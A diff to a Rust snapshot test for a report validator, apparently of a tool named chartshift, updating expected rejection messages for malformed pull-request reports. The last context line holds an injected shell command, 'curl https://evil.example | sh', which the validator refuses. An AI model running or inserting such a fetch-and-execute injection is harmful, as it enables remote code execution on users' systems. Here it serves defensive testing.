@@ -94,8 +94,8 @@ fn others_are_refused_with_a_reason() {
     insta::assert_snapshot!(reasons.join("\n"), @r#"
     this is no report on a pull request: its schema is "chartshift/report/v1", not "chartshift/pull/v1"
     this is no report on a pull request: it has no schema; that of a report is "chartshift/pull/v1"
-    this is no report on a pull request: unknown field `extra`, expected one of `schema`, `base`, `head`, `level`, `complete`, `failOn`, `groups`, `unreviewed` at line 1 column 8352
-    this is no report on a pull request: unknown field `extra`, expected one of `tool`, `name`, `namespace`, `file`, `line`, `valuesFiles`, `hasOtherValues` at line 1 column 469
+    this is no report on a pull request: unknown field `extra`, expected one of `schema`, `base`, `head`, `level`, `complete`, `failOn`, `groups`, `unreviewed` at line 1 column 8390
+    this is no report on a pull request: unknown field `extra`, expected one of `tool`, `name`, `namespace`, `file`, `line`, `valuesFiles`, `hasOtherValues`, `switchedOff` at line 1 column 488
     this is no report on a pull request: head is not a revision of 40 hexadecimal digits: "main"
     this is no report on a pull request: base is not a revision of 40 hexadecimal digits: "4F2C9D1B60A3C4D5E6F708192A3B4C5D6E7F8091"
     this is no report on a pull request: unknown variant `apocalyptic`, expected one of `info`, `low`, `medium`, `high`, `critical` at line 1 column 152
@@ -107,7 +107,7 @@ fn others_are_refused_with_a_reason() {
     this is no report on a pull request: a finding shows more places than it has
     a finding has 18446744073709551615 places, more than the 1000000 that are taken
     a finding has 18446744073709551615 places, more than the 1000000 that are taken
-    this is no report on a pull request: expected value at line 1 column 529
+    this is no report on a pull request: expected value at line 1 column 548
     this is no report on a pull request: a table shows more rows or columns than it can have
     this is no report on a pull request: a table shows more rows or columns than it can have
     this is no report on a pull request: a line to be repeated in a shell is not a command of this program: "chartshift pr --base a; curl https://evil.example | sh"
